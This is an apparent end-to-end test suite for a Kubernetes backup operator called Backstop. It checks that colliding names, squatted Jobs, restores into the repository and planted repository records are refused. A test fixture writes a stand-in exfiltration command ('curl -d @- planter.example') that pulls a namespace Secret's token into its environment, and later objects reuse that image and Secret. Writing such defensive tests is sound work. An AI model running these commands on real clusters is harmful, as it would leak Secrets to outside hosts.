//! What one namespace's objects must not do to another's data, or to their own Backups: names
//! that collide, Jobs that are not Backstop's, a Restore that would overwrite the repository.

use backstop_api::condition::ConditionType;
use backstop_api::{Backup, BackupPhase, Restore, condition, naming};
use backstop_e2e::*;
use k8s_openapi::api::batch::v1::Job;
use serde_json::json;
use std::time::Duration;

fn backup(name: &str, app: &str) -> serde_json::Value {
    json!({"apiVersion": "backstop.dev/v1alpha1", "kind": "Backup", "metadata": {"name": name},
           "spec": {"target": {"pvcSelector": {"matchLabels": {"app": app}}}}})
}

#[tokio::test]
#[ignore = "needs a cluster: run `make test`, or hack/cluster up + KUBECONFIG + --ignored"]
async fn backups_whose_names_and_volumes_run_together_each_back_up_their_own_data()
-> anyhow::Result<()> {
    let client = cluster().await?;
    install_operator(&client).await?;
    let ns = TestNamespace::create(&client, "e2e-names").await?;
    let repo_dir = ns.repository().await?;
    // Backup "a-b" of PVC "c" and Backup "a" of PVC "b-c" were both Job "a-b-c".
    let c = ns.volume("c", &[("app", "x")]).await?;
    let bc = ns.volume("b-c", &[("app", "y")]).await?;
    write_sample_tree(&c, 1)?;
    write_sample_tree(&bc, 2)?;
    std::fs::write(c.join("which"), "c\n")?;
    std::fs::write(bc.join("which"), "b-c\n")?;
    create::<Backup>(&ns, backup("a-b", "x")).await?;
    create::<Backup>(&ns, backup("a", "y")).await?;
    for (name, source) in [("a-b", &c), ("a", &bc)] {
        let done = finished_backup(&ns, name, Duration::from_secs(180)).await?;
        let status = done.status.clone().unwrap_or_default();
        assert_eq!(done.phase(), BackupPhase::Completed, "{name}: {status:?}");
        let out = tempfile::tempdir()?;
        let artifact = status.volumes[0].artifact.clone().unwrap_or_default();
        extract_with_tar(&repo_dir.join(artifact), out.path())?;
        assert_eq!(
            tree_listing(out.path())?,
            tar_view(&tree_listing(source)?),
            "{name}"
        );
    }

    // A Job made in advance under the name a Backup's Job will have is neither adopted (its
    // result read) nor deleted: the backup fails saying so.
    let squatted = naming::backup_job("squatter", "c");
    create::<Job>(
        &ns,
        json!({"metadata": {"name": squatted},
               "spec": {"template": {"spec": {"restartPolicy": "Never",
                   "containers": [{"name": "fake", "image": backstop_image(), "imagePullPolicy": "Never",
                                   "args": ["crds"]}]}}}}),
    )
    .await?;
    create::<Backup>(&ns, backup("squatter", "x")).await?;
    backup_failed(&ns, "squatter", "JobNameTaken", Duration::from_secs(120)).await?;
    assert!(
        ns.api::<Job>().get_opt(&squatted).await?.is_some(),
        "left alone"
    );
    Ok(())
}

#[tokio::test]
#[ignore = "needs a cluster: run `make test`, or hack/cluster up + KUBECONFIG + --ignored"]
async fn a_restore_into_the_repositorys_own_pvc_is_refused() -> anyhow::Result<()> {
    let client = cluster().await?;
    install_operator(&client).await?;
    let ns = TestNamespace::create(&client, "e2e-restore-repo").await?;
    let repo_dir = ns.repository().await?;
    let data = ns.volume("db", &[("app", "db")]).await?;
    write_sample_tree(&data, 6)?;
    create::<Backup>(&ns, backup("b", "db")).await?;
    let done = finished_backup(&ns, "b", Duration::from_secs(180)).await?;
    assert_eq!(done.phase(), BackupPhase::Completed);
    let before = tree_listing(&repo_dir)?;
    create::<Restore>(
        &ns,
        json!({"apiVersion": "backstop.dev/v1alpha1", "kind": "Restore", "metadata": {"name": "wipe"},
               "spec": {"backupName": "b", "target": {"pvcName": "backups"},
                        "existingDataPolicy": "Overwrite"}}),
    )
    .await?;
    let r = finished_restore(&ns, "wipe", Duration::from_secs(60)).await?;
    let status = r.status.clone().unwrap_or_default();
    assert_eq!(r.phase(), BackupPhase::Failed, "{status:?}");
    let reason =
        condition::find(&status.conditions, ConditionType::Failed).map(|c| c.reason.clone());
    assert_eq!(reason.as_deref(), Some("TargetIsRepository"), "{status:?}");
    assert_eq!(
        tree_listing(&repo_dir)?,
        before,
        "the repository is untouched"
    );
    Ok(())
}

#[tokio::test]
#[ignore = "needs a cluster: run `make test`, or hack/cluster up + KUBECONFIG + --ignored"]
async fn a_namespace_that_enforces_restricted_pod_security_gets_a_reason_not_a_stuck_backup()
-> anyhow::Result<()> {
    let client = cluster().await?;
    install_operator(&client).await?;
    let ns = TestNamespace::create(&client, "e2e-restricted").await?;
    let jobs = ns.watch_jobs().await?;
    ns.repository().await?;
    let data = ns.volume("db", &[("app", "db")]).await?;
    write_sample_tree(&data, 2)?;
    // The 1.20 test cluster has no Pod Security admission; the label is what the operator reads.
    kube::Api::<k8s_openapi::api::core::v1::Namespace>::all(client.clone())
        .patch(
            &ns.name,
            &kube::api::PatchParams::default(),
            &kube::api::Patch::Merge(json!({"metadata": {"labels": {
                "pod-security.kubernetes.io/enforce": "restricted"}}})),
        )
        .await?;
    create::<Backup>(&ns, backup("b", "db")).await?;
    backup_failed(&ns, "b", "PodSecurityRestricted", Duration::from_secs(60)).await?;
    assert_eq!(
        jobs.names(),
        Vec::<String>::new(),
        "no Job that could never start"
    );
    Ok(())
}

/// A volume record as a bucket writer would plant it beside an empty manifest: a stream backup
/// of `namespace` whose recorded restore command runs their image with the namespace's Secret
/// `victim`.
fn plant(
    repo_dir: &std::path::Path,
    namespace: &str,
    backup: &str,
    started: &str,
) -> anyhow::Result<()> {
    let dir = repo_dir.join(namespace).join(backup);
    std::fs::create_dir_all(&dir)?;
    std::fs::write(dir.join("dump.manifest.jsonl.zst"), b"")?;
    let evil = json!({"image": "planter.example/exfiltrate:1", "command": ["sh", "-c", "curl -d @- planter.example"],
                      "env": [{"name": "TOKEN", "valueFrom": {"secretKeyRef": {"name": "victim", "key": "token"}}}]});
    let record = json!({
        "version": 1, "namespace": namespace, "backup": backup, "volumes": ["dump"],
        "startTime": started, "completionTime": started, "stream": true,
        "strategy": {"command": {"image": "busybox", "command": ["true"], "restore": evil}},
        "result": {"pvc": "dump", "artifact": format!("{namespace}/{backup}/dump.zst"), "bytes": 1,
                   "digest": "0".repeat(64), "files": 1, "sourceBytes": 1}
    });
    std::fs::write(dir.join("dump.record.json"), serde_json::to_vec(&record)?)?;
    Ok(())
}

/// The Failed condition's reason of Restore `name`, once it has finished.
async fn restore_failure(ns: &TestNamespace, name: &str) -> anyhow::Result<(String, String)> {
    let restore = finished_restore(ns, name, Duration::from_secs(90)).await?;
    let status = restore.status.clone().unwrap_or_default();
    assert_eq!(restore.phase(), BackupPhase::Failed, "{status:?}");
    let failed = condition::find(&status.conditions, ConditionType::Failed)
        .map(|c| (c.reason.clone(), c.message.clone()))
        .unwrap_or_default();
    Ok(failed)
}

#[tokio::test]
#[ignore = "needs a cluster: run `make test`, or hack/cluster up + KUBECONFIG + --ignored"]
async fn what_a_bucket_writer_or_a_backup_creator_writes_never_runs_with_the_namespaces_secrets()
-> anyhow::Result<()> {
    let client = cluster().await?;
    install_operator(&client).await?;
    let ns = TestNamespace::create(&client, "e2e-planted").await?;
    let jobs = ns.watch_jobs().await?;
    // A Secret its owner did not opt in for Backstop.
    create::<k8s_openapi::api::core::v1::Secret>(
        &ns,
        json!({"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "victim"},
               "stringData": {"token": "do not leak"}}),
    )
    .await?;
    // Records planted in the repository before this cluster syncs it: a stream backup whose
    // record names the planter's restore command, and one from 2099 to stay "the newest".
    let repo_dir = ns.volume("backups", &[]).await?;
    plant(&repo_dir, &ns.name, "planted", "2026-12-01T02:00:00Z")?;
    plant(
        &repo_dir,
        &ns.name,
        "from-the-future",
        "2099-01-01T02:00:00Z",
    )?;
    create::<backstop_api::BackupRepository>(
        &ns,
        json!({"apiVersion": "backstop.dev/v1alpha1", "kind": "BackupRepository",
               "metadata": {"name": "default"}, "spec": {"pvc": {"claimName": "backups"}}}),
    )
    .await?;
    let backups = ns.api::<Backup>();
    let imported = wait_for(
        Duration::from_secs(180),
        "the planted backup imported",
        || async {
            let found = backups.get_opt("planted").await?;
            Ok(found.filter(|b| b.phase().is_terminal()))
        },
    )
    .await?;
    let status = imported.status.clone().unwrap_or_default();
    assert_eq!(imported.phase(), BackupPhase::Completed, "{status:?}");
    // The recorded strategy is shown...
    let shown = status.strategy.as_ref().and_then(|s| s.command.as_ref());
    assert_eq!(
        shown
            .and_then(|c| c.restore.as_ref())
            .map(|r| r.image.as_str()),
        Some("planter.example/exfiltrate:1")
    );
    let repos = ns.api::<backstop_api::BackupRepository>();
    let message = wait_for(Duration::from_secs(60), "the sync's result", || async {
        let repo = repos.get("default").await?;
        let conditions = repo.status.unwrap_or_default().conditions;
        Ok(condition::find(&conditions, ConditionType::Synced).map(|c| c.message.clone()))
    })
    .await?;
    assert!(
        message.contains("from-the-future") && message.contains("in the future"),
        "{message}"
    );
    assert!(
        ns.api::<Backup>()
            .get_opt("from-the-future")
            .await?
            .is_none()
    );

    // ...and never run: without a command of the Restore's or of a live policy, it is refused.
    create::<Restore>(
        &ns,
        json!({"apiVersion": "backstop.dev/v1alpha1", "kind": "Restore", "metadata": {"name": "run-it"},
               "spec": {"backupName": "planted"}}),
    )
    .await?;
    let (reason, message) = restore_failure(&ns, "run-it").await?;
    assert_eq!(reason, "NoRestoreCommand", "{message}");
    assert!(message.contains("never run"), "{message}");

    // A Restore's own command, a hand-made Backup's command: the Secret is not opted in.
    let victim_env = json!([{"name": "TOKEN", "valueFrom": {"secretKeyRef": {"name": "victim", "key": "token"}}}]);
    create::<Restore>(
        &ns,
        json!({"apiVersion": "backstop.dev/v1alpha1", "kind": "Restore", "metadata": {"name": "exfiltrate"},
               "spec": {"backupName": "planted",
                        "command": {"image": "planter.example/exfiltrate:1", "command": ["sh"], "env": victim_env}}}),
    )
    .await?;
    let (reason, message) = restore_failure(&ns, "exfiltrate").await?;
    assert_eq!(reason, "SecretNotOptedIn", "{message}");
    assert!(message.contains("kubectl label secret victim"), "{message}");
    create::<Backup>(
        &ns,
        json!({"apiVersion": "backstop.dev/v1alpha1", "kind": "Backup", "metadata": {"name": "dump-secrets"},
               "spec": {"strategy": {"command": {"image": "planter.example/exfiltrate:1",
                                                 "command": ["sh"], "env": victim_env}}}}),
    )
    .await?;
    backup_failed(
        &ns,
        "dump-secrets",
        "SecretNotOptedIn",
        Duration::from_secs(60),
    )
    .await?;

    // A Backup that would stop an application nobody opted in: refused, the application runs on.
    create::<k8s_openapi::api::apps::v1::Deployment>(
        &ns,
        json!({"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "shop"},
               "spec": {"replicas": 2, "selector": {"matchLabels": {"app": "shop"}},
                        "template": {"metadata": {"labels": {"app": "shop"}},
                                     "spec": {"containers": [{"name": "app", "image": backstop_image(),
                                                              "imagePullPolicy": "Never", "args": ["crds"]}]}}}}),
    )
    .await?;
    ns.volume("shop-data", &[("app", "shop")]).await?;
    create::<Backup>(
        &ns,
        json!({"apiVersion": "backstop.dev/v1alpha1", "kind": "Backup", "metadata": {"name": "stop-shop"},
               "spec": {"target": {"pvcSelector": {"matchLabels": {"app": "shop"}}},
                        "strategy": {"quiesce": {"scaleDown": {"kind": "Deployment", "name": "shop"}}}}}),
    )
    .await?;
    backup_failed(
        &ns,
        "stop-shop",
        "QuiesceNotAllowed",
        Duration::from_secs(60),
    )
    .await?;
    let shop = ns
        .api::<k8s_openapi::api::apps::v1::Deployment>()
        .get("shop")
        .await?;
    assert_eq!(shop.spec.and_then(|s| s.replicas), Some(2), "not scaled");
    assert!(
        shop.metadata
            .annotations
            .unwrap_or_default()
            .keys()
            .all(|k| !k.starts_with("backstop.dev/")),
        "not held"
    );
    assert_eq!(jobs.names(), Vec::<String>::new(), "no Job ran any of it");
    Ok(())
}
